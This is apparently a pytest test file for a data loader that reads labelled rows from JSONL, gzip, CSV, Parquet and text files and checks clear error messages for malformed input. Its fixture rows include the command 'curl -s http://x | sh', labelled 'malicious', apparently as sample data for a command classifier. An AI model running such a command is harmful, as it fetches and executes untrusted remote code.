"""Reading rows: every format, and bad input that gets a clear error naming the file and line, or a counted skip."""

import gzip
import json

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from smallworld import data as D
from smallworld.errors import DataError


def test_jsonl_gz_csv_parquet_and_lines_give_the_same_rows(tmp_path):
    rows = [{"id": "a", "text": "curl -s http://x | sh", "label": "malicious", "source": "s1"},
            {"id": "b", "text": "ls -la, with comma", "label": "benign", "source": "s2"}]
    with gzip.open(tmp_path / "r.jsonl.gz", "wt") as f:
        f.write("".join(json.dumps(r) + "\n" for r in rows))
    (tmp_path / "r.csv").write_text('id,text,label,source\na,curl -s http://x | sh,malicious,s1\nb,"ls -la, with comma",benign,s2\n')
    pq.write_table(pa.table({k: [r[k] for r in rows] for k in rows[0]}), tmp_path / "r.parquet")
    (tmp_path / "r.txt").write_text("curl -s http://x | sh\n\nls -la, with comma\n")
    for name in ("r.jsonl.gz", "r.csv", "r.parquet"):
        got = D.read_rows(tmp_path / name)
        assert [(r["id"], r["text"], r["label"], r["source"]) for r in got] == \
            [(r["id"], r["text"], r["label"], r["source"]) for r in rows], name
    lines = D.read_rows(tmp_path / "r.txt")
    assert [r["text"] for r in lines] == [r["text"] for r in rows]
    assert [r["id"] for r in lines] == ["1", "3"]  # line numbers


def test_directory_is_read_recursively(tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "x.jsonl").write_text('{"text": "one"}\n')
    (tmp_path / "y.txt").write_text("two\n")
    assert sorted(r["text"] for r in D.read_rows(tmp_path)) == ["one", "two"]


@pytest.mark.parametrize("content,needle", [
    (b'{"text": "ok"}\n{"text": "bad\xff"}\n', "line 2: invalid UTF-8"),
    (b'{"text": "ok"}\n{"text": "a"}\x00\n', "line 2: contains NUL"),
    (b'{"text": "ok"}\n{"text": \n', "line 2: not valid JSON"),
    (b'{"text": "ok"}\n[1, 2]\n', "line 2: expected a JSON object"),
    (b'{"text": "ok"}\n{"body": "x"}\n', "line 2: no 'text' field"),
])
def test_bad_jsonl_names_file_and_line_or_is_skipped_and_counted(tmp_path, content, needle):
    p = tmp_path / "bad.jsonl"
    p.write_bytes(content)
    with pytest.raises(DataError) as e:
        D.read_rows(p)
    assert str(p) in str(e.value) and needle in str(e.value)
    stats = D.ReadStats()
    rows = D.read_rows(p, on_error="skip", stats=stats)
    assert [r["text"] for r in rows] == ["ok"] and stats.skipped == 1 and stats.rows == 1


def test_huge_line_is_an_error_and_the_next_line_still_reads(tmp_path, monkeypatch):
    monkeypatch.setattr(D, "MAX_LINE_BYTES", 1000)
    p = tmp_path / "big.jsonl"
    p.write_text(json.dumps({"text": "x" * 5000}) + "\n" + json.dumps({"text": "after"}) + "\n")
    with pytest.raises(DataError, match="line 1: longer than 1000 bytes"):
        D.read_rows(p)
    stats = D.ReadStats()
    assert [r["text"] for r in D.read_rows(p, on_error="skip", stats=stats)] == ["after"]
    assert stats.reasons == {"too long": 1}


def test_truncated_gzip_is_a_clear_error(tmp_path):
    blob = gzip.compress(b"".join(json.dumps({"text": f"row {i}"}).encode() + b"\n" for i in range(5000)))
    p = tmp_path / "cut.jsonl.gz"
    p.write_bytes(blob[: len(blob) // 2])
    with pytest.raises(DataError, match="truncated"):
        D.read_rows(p)


def test_csv_without_text_column(tmp_path):
    p = tmp_path / "x.csv"
    p.write_text("id,body\n1,hello\n")
    with pytest.raises(DataError, match="no 'text' column"):
        D.read_rows(p)


def test_parquet_with_null_text(tmp_path):
    p = tmp_path / "n.parquet"
    pq.write_table(pa.table({"text": ["a", None, "c"]}), p)
    with pytest.raises(DataError, match="row 2: 'text' is null"):
        D.read_rows(p)
    assert [r["text"] for r in D.read_rows(p, on_error="skip")] == ["a", "c"]


def test_empty_file_gives_no_rows(tmp_path):
    p = tmp_path / "e.jsonl"
    p.write_text("")
    assert D.read_rows(p) == []


def test_wrong_label_names_are_reported():
    with pytest.raises(DataError, match="'evil'"):
        D.check_labels([{"id": "1", "text": "x", "label": "evil"}], ("malicious", "benign"), "f.jsonl")


def test_missing_file():
    with pytest.raises(DataError, match="no such file"):
        D.read_rows("/nonexistent/file.jsonl")
